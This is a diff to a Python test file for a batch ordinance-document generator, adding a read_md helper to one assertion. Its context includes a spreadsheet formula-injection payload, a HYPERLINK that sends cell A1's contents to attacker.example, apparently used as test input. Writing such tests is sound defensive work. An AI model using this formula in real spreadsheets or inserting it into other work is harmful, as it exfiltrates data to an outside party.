@@ -8,7 +8,7 @@ import os
 import shutil
 
 import pytest
-from conftest import EXAMPLES, docx_text, run, write
+from conftest import EXAMPLES, docx_text, run, write, read_md
 from test_bad_input import GOOD, assert_refused, draft_with
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
@@ -81,7 +81,7 @@ def test_same_named_places_get_their_own_folders_and_a_repeated_slug_is_refused(
     assert "Springfield, Missouri" in (out / "city-of-springfield-mo" /
                                        "city-of-springfield-mo-ordinance.md").read_text()
     assert f"{source}:5: would write to the same folder (my-town) as {source}:4" in result.stderr
-    assert "Shelbyville" in (out / "my-town" / "my-town-ordinance.md").read_text()
+    assert "Shelbyville" in read_md(out / "my-town" / "my-town-ordinance.md")
     statuses = sorted(r["status"] for r in read_csv(out / "batch-report.csv"))
     assert statuses == ["invalid", "written", "written", "written"]
 
